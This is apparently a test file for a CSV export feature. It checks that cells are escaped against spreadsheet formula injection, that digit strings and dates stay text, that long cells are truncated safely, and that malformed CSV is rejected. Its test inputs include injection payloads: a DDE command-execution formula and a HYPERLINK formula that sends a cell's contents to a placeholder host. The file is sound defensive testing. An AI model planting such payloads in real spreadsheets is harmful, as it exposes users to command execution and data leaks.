import * as fc from "fast-check";
import { expect, test } from "vitest";
import { exportCutOff } from "../../app/content/desk/export.ts";
import { csvCell, csvLine, fitCell, readCell } from "../../app/desk/export/export-format.ts";
import { cleanText } from "../../app/ui/clean-text.ts";
import { readCsv } from "../support/read-csv.ts";

test.each([
  ["=1+1", `"'=1+1"`],
  ['=HYPERLINK("http://x.example?"&A1)', `"'=HYPERLINK(""http://x.example?""&A1)"`],
  ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ["+1 704 555 0100", `"'+1 704 555 0100"`],
  ["-2+3", `"'-2+3"`],
  ["@SUM(A1)", `"'@SUM(A1)"`],
  ["\t=1+1", `"'\t=1+1"`],
  ["\r=1+1", `"'\n=1+1"`],
  ["\n=1+1", `"'\n=1+1"`],
  ["＝1+1", `"'＝1+1"`],
  ["'=1+1", `"''=1+1"`],
  ["a,b", `"a,b"`],
  ["a;=1+1", `"a;=1+1"`],
  ['say "hi"', `"say ""hi"""`],
  ["'tis", `"'tis"`],
  ["02138", `"'02138"`],
  ["5901234123457", `"'5901234123457"`],
  ["2-4", `"'2-4"`],
  ["1E5", `"'1E5"`],
  ["May 5", `"'May 5"`],
  ["September 2, 2026", `"'September 2, 2026"`],
  ["SEPT2", `"'SEPT2"`],
  ["5-Dec", `"'5-Dec"`],
  ["1 June 2026", `"'1 June 2026"`],
  ["3 PM", `"'3 PM"`],
  ["10:30 a", `"'10:30 a"`],
  [".5", `"'.5"`],
  ["(12.50)", `"'(12.50)"`],
  ["True", `"'True"`],
  ["FALSE", `"'FALSE"`],
  ["May", `"May"`],
  ["March for Life 2026", `"March for Life 2026"`],
  ["5 May Street", `"5 May Street"`],
  ["(919) 555-0142", `"(919) 555-0142"`],
  ["3 pms", `"3 pms"`],
  ["9400 1000 0000 0000 0000 00", `"'9400 1000 0000 0000 0000 00"`],
  ["2026-11-01", `"2026-11-01"`],
  ["2026-11-01T12:00:00.000Z", `"2026-11-01T12:00:00.000Z"`],
  ["12 Mill Road", `"12 Mill Road"`],
  ["a\u0000b\u001B[31m\u0085c\uD800", `"ab[31mc"`],
  ["", `""`],
])("the cell of %j is %s", (text, cell) => {
  expect(csvCell(text)).toBe(cell);
});

test("figures are bare, nothing is empty, and a list is its parts", () => {
  expect(csvLine([12, -3, null, ["a", "b"], []])).toBe('12,-3,,"a; b",""\r\n');
});

test("a list that begins with a formula is no formula", () => {
  expect(csvCell(["=1+1", "b"])).toBe(`"'=1+1; b"`);
});

test("a spreadsheet that makes a number of every cell of digits changes no text", () => {
  const texts = ["02138", "5901234123457", "007", "1234567890123456789", "1/2"];
  const [saved = []] = readCsv(csvLine(texts)).map((record) =>
    record.map((cell) => (/^[\d/ .-]+$/.test(cell) ? String(Number(cell)) : cell)),
  );
  expect(saved.map(readCell)).toEqual(texts);
});

test("no cell is longer than a spreadsheet's can be: it ends at a whole character and says where the rest is", () => {
  const address = "https://site.example/desk/messages/m-1";
  const end = exportCutOff(address);
  expect(fitCell("x".repeat(32_766), end)).toHaveLength(32_766);
  for (const text of ["x".repeat(32_767), `${"👨‍👩‍👧".repeat(5000)}`, `=${"é\u0301".repeat(30_000)}`]) {
    const [[cell = ""] = []] = readCsv(csvLine([text], end));
    expect(cell.length).toBeLessThanOrEqual(32_767);
    expect(cell.length).toBeGreaterThan(32_700);
    const kept = readCell(cell).split("… (")[0] ?? "";
    expect(cell).toContain(`All of it: ${address}, or in the file of JSON Lines)`);
    const whole = Array.from(new Intl.Segmenter("en").segment(text), ({ segment }) => segment);
    expect(whole.slice(0, Array.from(new Intl.Segmenter("en").segment(kept)).length).join("")).toBe(kept);
  }
});

test("a strict reader gets every text back but control characters, and none of them begins a formula", () => {
  const texts = fc.array(fc.oneof(fc.string(), fc.stringMatching(/^['=+\-@\t\r\n",a]{0,6}$/)), {
    minLength: 1,
    maxLength: 6,
  });
  fc.assert(
    fc.property(texts, (values) => {
      const [record = []] = readCsv(csvLine(values));
      expect(record.map(readCell)).toEqual(values.map(cleanText));
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }),
  );
});

test.each(['"a', "a\n", "a,b\r\nc\r\n", 'a"b\r\n', '"a"b\r\n'])("the strict reader refuses %j", (text) => {
  expect(() => readCsv(text)).toThrow(/Record|quote/);
});
